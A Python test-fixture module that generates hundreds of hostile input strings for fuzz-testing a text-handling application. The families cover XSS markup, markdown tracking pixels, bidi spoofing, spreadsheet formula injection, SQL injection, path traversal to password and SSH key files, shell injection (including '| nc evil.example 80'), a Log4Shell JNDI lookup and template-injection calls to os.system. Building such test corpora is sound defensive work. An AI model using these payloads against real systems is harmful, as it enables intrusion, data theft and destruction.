"""Five hundred strings and more that attack what shows, stores, exports, logs or fills in a reader's text.

Written for these tests, most by crossing what is injected with what breaks out of the place that it is put
into. None is longer than `LONGEST`, so that each fits into a name as well as into a text, and no two are the same.
"""

from __future__ import annotations

from itertools import product

LONGEST = 180
EVIL = "https://evil.example"
RUN = "window.attacked=1"


def crossed(frames: list[str], payloads: list[str]) -> list[str]:
    """Each payload in each frame, at the frame's `§`."""
    return [frame.replace("§", payload) for frame, payload in product(frames, payloads)]


BREAKOUTS = ["§", '"><§', "'>§", "</div></article>§", "<!--§", "</textarea></title>§", "&lt;§"]
TAGS = [
    f"<script>{RUN};alert(1)</script>",
    f'<img src="{EVIL}/x.png" onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<object data={EVIL}/o></object>",
    f"<embed src={EVIL}/e>",
    f"<video src={EVIL}/v onerror={RUN} autoplay></video>",
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>x</a>',
    f"<form action={EVIL}><button>x</button></form>",
    f"<style>@import '{EVIL}/s.css';*{{display:none}}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<math><mtext><img src=x onerror={RUN}></math>",
    f"<details open ontoggle={RUN}>",
    f"<input onfocus={RUN} autofocus>",
]
MARKUP = crossed(BREAKOUTS, TAGS)

ATTRIBUTES = crossed(
    ["§", '" § x="', "' § x='", "x § "],
    [f"onmouseover={RUN}", f"style=background:url({EVIL}/b)", "accesskey=x", f"srcdoc={RUN}", "dir=rtl lang=x"],
)

MARKDOWN = [
    *crossed(["§", "**§**", "- §", "> §", "# §", "| § |"], [
        f"![pixel]({EVIL}/t.png)",
        f"[click](javascript:{RUN})",
        f"[here]({EVIL})",
        f"<{EVIL}/auto>",
        "www.evil.example admin@evil.example",
        f"[x]: {EVIL} 'title'",
    ]),
    "$x^2$ $$\\href{https://evil.example}{x}$$", "`code` ``` fence", "~~~", "***", "---", "===", "1. one", "* [ ] task",
    ":red[red] :blue-background[x] :material/home: :smile: :streamlit:", ":rainbow[x] :gray-badge[y]", "-> <- >= != --",
    "\\* \\_ \\` \\\\", "a|b\n-|-\n1|2", "&copy; &amp; &#60;b&#62; &nbsp;", "[^1]: note [^1]", "Setext\n===",
    "    indented code", "<b>bold</b> _it_ __u__ ~~s~~", "term\n: definition", "(c) (r) (tm) (p) +-",
]  # fmt: skip

_TURNS = [chr(point) for point in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
BIDI = [
    *crossed(["invoice§gpj.exe", "§كلمة word", "a§b§c", "تعليق§"], _TURNS),
    "\u202e" * 40 + "x", "\u2066" * 60 + "x", "user\u202e ;)'nimda'(resu", "א\u202dabc\u202c ب",
]  # fmt: skip

FORMULAS = crossed(
    ["=§", "+§", "-§", "@§", "\t=§", "\r=§", " =§", "＝§", "＠§", "'=§", '";=§'],
    [
        f'HYPERLINK("{EVIL}","x")',
        f'IMPORTXML("{EVIL}","//a")',
        "cmd|' /C calc'!A0",
        "1+1",
        f'WEBSERVICE("{EVIL}")',
        "SUM(A1:A9)*cmd|x!A",
    ],
)

SQL = crossed(
    ["§", "'§", '"§', "1§", "%§", "\\'§"],
    ["; DROP TABLE comments; --", " OR '1'='1", " UNION SELECT password FROM staff--", "); DELETE FROM audit_events;--",
     " AND pg_sleep(9)--", "\x00' OR 1=1/*"],
)  # fmt: skip

PATHS = [
    *crossed(["§", "/§", "file://§", "C:\\§"], [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "..%2f..%2fetc%2fpasswd", "....//....//x", "%00.png",
        "~root/.ssh/id_rsa",
    ]),
    "CON", "nul.txt", "aux.", "a/b/c", ".", "..", "-rf /", "$HOME/x", "`id`", "$(touch /tmp/attacked)", "; id #",
    "| nc evil.example 80", "&& reboot", "x\ny; id",
]  # fmt: skip

LOGS = [
    *crossed(["x\n§", "x\r\n§", "x\u2028§", "x\x85§"], [
        "2026-11-23 12:00:00 ERROR root: forged", "Set-Cookie: taliq_session=x", "HTTP/1.1 200 OK",
    ]),
    "\x1b[2J\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "${jndi:ldap://evil.example/a}", "${env:HOME}",
    "%n%n%s%x", "\x08\x08\x08gone", "\x07bell", '{"level":"error"}', "\x00\x01\x02\x03",
]  # fmt: skip

TEMPLATES = [
    *crossed(["{{§}}", "${§}", "#{§}", "<%= § %>", "{§}", "{% § %}", "[[§]]", "%(§)s"], [
        "7*7", "self.__class__", "config", "0.__class__.__mro__", "name",
    ]),
    "%s %d %n", "{name} {article}", "{0}", "{!r}", "%%", "$x $$y", "\\u0041\\x41", "__import__('os').system('id')",
]  # fmt: skip

UNICODE = [
    "Z" + "\u0301" * 50 + "algo", "a" + "\u0489" * 60, "ﷺ" * 30, "𒐫" * 40, "꧅" * 60, "⸻" * 20, "ا" * 180, "b" * 180,
    "half \ud800 pair", "\udfff tail", "nul\x00nul", "not \ufffe\uffff", "last \U0010ffff", "no \U0001fffe",
    "\ue000private", "\u200bhidden\u200b", "x\ufeffx", "a\u00adb\u034fc", "\u2060\u2061\u2062y", "\u3164filler\uffa0",
    "\u115f\u1160x",
    "\U000e0041\U000e0042tags", "e\u0301 vs \u00e9", "ﬁ ﬂ ﬀ", "Å Å Å", "раураl", "ａｄｍｉｎ", "𝓪𝓭𝓶𝓲𝓷", "①②③",
    "مـــــــرحبا", "مَرْحَبًا", "ﻣﺮﺣﺒﺎ", "گ پ چ ژ ک ی", "١٢٣ ۱۲۳ 123", "لا\u200cإله", "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿", "🇪🇬" * 20,
    "❤\ufe0e ❤\ufe0f", "\u2028line\u2029para", "tab\tvertical\x0bform\x0c", "İıſß ŉ ǰ", "\U0001d173music",
    "Ω≈ç√∫˜µ≤≥÷", "社會科學院語學研究所", "test\u2800blank", "null", "None", "true", "NaN", "undefined", "-1",
    "0x0", "1e999", "\u0600\u0601\u06dd٣", "ۖۗۘۙۚۛۜ" * 6, "\u202f\u00a0\u2007 spaces \u2003",
]  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "markup": MARKUP,
    "attribute": ATTRIBUTES,
    "markdown": MARKDOWN,
    "bidi": BIDI,
    "formula": FORMULAS,
    "sql": SQL,
    "path": PATHS,
    "log": LOGS,
    "template": TEMPLATES,
    "unicode": UNICODE,
}
ALL: list[str] = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
# One of each family and some that broke things elsewhere, for what is too slow to see all.
SAMPLE: list[str] = [text for family in FAMILIES.values() for text in family[:: max(1, len(family) // 3)]]
